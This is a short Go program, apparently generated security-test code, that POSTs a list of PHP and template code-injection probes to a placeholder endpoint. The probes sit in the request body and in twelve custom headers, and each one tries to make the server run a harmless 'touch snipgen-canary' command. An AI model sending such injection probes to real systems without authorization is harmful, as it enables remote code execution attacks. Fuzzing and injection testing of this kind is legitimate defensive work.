package main

import (
	"fmt"
	"io"
	"log"
	"net/http"
	"strings"
)

func main() {
	payload := strings.NewReader("{${touch('snipgen-canary')}}\n'.touch('snipgen-canary').'\n\".touch(\"snipgen-canary\").\"\n{$_SERVER[touch(\"snipgen-canary\")]}\n$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}\n?><?php touch('snipgen-canary'); ?>\n*/ touch('snipgen-canary'); /*\n// ?><?= touch('snipgen-canary') ?>\n\\'.touch('snipgen-canary').\\'\n\\\\'.touch('snipgen-canary').\\\\'\n`touch snipgen-canary`\n<%= touch %>\n\nEOT\n.touch('snipgen-canary').<<<EOT\n\n\nEOF;\ntouch('snipgen-canary');\n\n\\")

	req, err := http.NewRequest(http.MethodPost, "https://api.example.com/run", payload)
	if err != nil {
		log.Fatal(err)
	}
	req.Header.Set("X-Try-1", "{${touch('snipgen-canary')}}")
	req.Header.Set("X-Try-2", "'.touch('snipgen-canary').'")
	req.Header.Set("X-Try-3", "\".touch(\"snipgen-canary\").\"")
	req.Header.Set("X-Try-4", "{$_SERVER[touch(\"snipgen-canary\")]}")
	req.Header.Set("X-Try-5", "$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}")
	req.Header.Set("X-Try-6", "?><?php touch('snipgen-canary'); ?>")
	req.Header.Set("X-Try-7", "*/ touch('snipgen-canary'); /*")
	req.Header.Set("X-Try-8", "// ?><?= touch('snipgen-canary') ?>")
	req.Header.Set("X-Try-9", "\\'.touch('snipgen-canary').\\'")
	req.Header.Set("X-Try-10", "\\\\'.touch('snipgen-canary').\\\\'")
	req.Header.Set("X-Try-11", "`touch snipgen-canary`")
	req.Header.Set("X-Try-12", "<%= touch %>")
	req.Header.Set("X-Try-15", "\\")
	req.Header.Set("Content-Type", "text/plain")

	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		log.Fatal(err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(string(body))
}
